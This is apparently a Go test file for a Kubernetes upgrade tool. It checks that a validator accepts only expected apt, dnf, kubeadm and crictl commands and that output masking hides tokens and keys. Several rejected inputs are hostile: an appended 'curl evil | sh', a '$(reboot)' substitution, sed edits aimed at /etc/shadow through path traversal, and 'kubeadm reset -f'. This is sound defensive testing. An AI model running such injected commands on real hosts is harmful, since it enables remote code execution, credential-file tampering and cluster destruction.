package host_test

import (
	"testing"

	"github.com/fixline-dev/fixline/internal/apply/host"
	"github.com/fixline-dev/fixline/internal/core/plan"
	"github.com/fixline-dev/fixline/internal/core/progress"
)

func TestKnown(t *testing.T) {
	for _, c := range []struct {
		kind    plan.Kind
		command string
		known   bool
	}{
		{plan.PackageHold, "sudo apt-mark hold kubeadm kubelet kubectl", true},
		{plan.PackageHold, "sudo apt-mark hold kubectl; curl evil | sh", false},
		{plan.PackageRepository, `sudo sed -i -E 's#/v1\.[0-9]+/#/v1.37/#' /etc/apt/sources.list.d/kubernetes.list`, true},
		{plan.PackageRepository, `sudo sed -i -E 's#/v1\.[0-9]+/#/v1.37/#' /etc/shadow`, false},
		{plan.PackageRepository, `sudo sed -i -E 's#/v1\.[0-9]+/#/v1.37/#' /etc/apt/sources.list.d/../../shadow`, false},
		{plan.PackageRepository, `sudo sed -i -E 's#/v1\.[0-9]+/#/v1.38/#' /etc/apt/sources.list.d/kubernetes.list`, false},
		{plan.KubeletPackage, "sudo apt-get install -y --allow-downgrades kubelet='1.37.10-*'", false},
		{plan.KubeletPackage, "sudo apt-get install -y --allow-downgrades kubelet='1.37.1-*'", true},
		{plan.KubeletPackage, "sudo apt-get install -y --allow-downgrades kubeadm='1.37.1-*'", false},
		{plan.KubeletPackage, "sudo dnf install -y 'kubelet-1.37.1-*' --disableexcludes=kubernetes", true},
		{plan.KubeletPackage, "sudo dnf install -y 'kubelet-1.36.1-*' --disableexcludes=kubernetes", false},
		{plan.KubeletPackage, "sudo apt-mark unhold kubelet", true},
		{plan.KubeletPackage, "sudo apt-mark unhold kubeadm", false},
		{plan.KubeadmApply, "sudo kubeadm upgrade apply v1.38.0 --yes", false},
		{plan.KubeadmApply, "sudo kubeadm upgrade diff v1.37.1", true},
		{plan.KubeadmApply, "sudo kubeadm upgrade apply v1.37.1 --yes\n", false},
		{plan.KubeadmApply, "sudo kubeadm upgrade apply v1.37.1 --yes --ignore-preflight-errors=ALL", false},
		{plan.ImagePull, "sudo crictl pull registry.k8s.io/etcd:3.6.5-0", true},
		{plan.ImagePull, "sudo crictl pull x $(reboot)", false},
		{plan.KubeletPackage, "sudo apt-get install -y --allow-downgrades kubelet='1.37.1-1.1'", true},
		{plan.KubeletPackage, "sudo apt-get install -y --allow-downgrades nmap='1'", false},
		{plan.KubeletPackage, "sudo systemctl restart kubelet", true},
		{plan.KubeadmPackage, "sudo systemctl restart kubelet", false},
		{plan.KubeadmApply, "sudo kubeadm upgrade apply v1.37.1 --yes", true},
		{plan.KubeadmApply, "sudo kubeadm upgrade apply v1.37.1 --yes --ignore-preflight-errors=SystemVerification,Swap", true},
		{plan.KubeadmApply, "sudo kubeadm upgrade apply v1.37.1 --yes --ignore-preflight-errors=all", false},
		{plan.KubeadmApply, "sudo kubeadm upgrade apply v1.37.1 --yes --ignore-preflight-errors=Swap,all", false},
		{plan.KubeadmApply, "sudo kubeadm upgrade apply v1.37.1 --force", false},
		{plan.KubeadmNode, "sudo kubeadm upgrade node", true},
		{plan.KubeadmNode, "sudo kubeadm reset -f", false},
	} {
		s := &plan.Step{ID: "1", Kind: c.kind, Commands: []string{c.command}, To: "1.37.1", Components: map[plan.Kind][]string{plan.KubeletPackage: {"kubelet"}, plan.KubeadmPackage: {"kubeadm"}}[c.kind]}
		if c.kind == plan.PackageRepository {
			s.To = "1.37"
		}
		err := host.Known(s)
		if (err == nil) != c.known {
			t.Errorf("%s: %q: %v", c.kind, c.command, err)
		}
	}
}

// TestNoCommands: an edited plan may have a step that does nothing, which is not
// taken for done.
func TestNoCommands(t *testing.T) {
	m := newMachine(t)
	for _, kind := range host.Kinds() {
		m.look(&plan.Step{ID: "1", Kind: kind, Node: "w1", Components: []string{"kubelet"}, To: "1.37.1"}, progress.Unclear)
	}
}

func TestMasked(t *testing.T) {
	for text, want := range map[string]string{
		"joined with abcdef.0123456789abcdef":                                 "joined with [masked]",
		"--certificate-key 0123abcd done":                                     "--certificate-key [masked] done",
		`{"token": "s3cr3t", "ttl": 5}`:                                       `{"token": [masked], "ttl": 5}`,
		`{"Authorization": "Bearer s3cr3t"}`:                                  `{"Authorization": [masked]}`,
		"client-key-data: TFMwdExT":                                           "client-key-data: [masked]",
		"https://user:p@w@mirror/x":                                           "https://user:[masked]mirror/x",
		"Authorization: Bearer s3cr3t":                                        "Authorization: Bearer [masked]",
		"https://user:pw@mirror.example.org/x":                                "https://user:[masked]mirror.example.org/x",
		"-----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----": "-----BEGIN RSA PRIVATE KEY-----[masked]",
		"[upgrade] Success! v1.37.1":                                          "[upgrade] Success! v1.37.1",
	} {
		if got := host.Masked(text); got != want {
			t.Errorf("%q became %q, want %q", text, got, want)
		}
	}
}
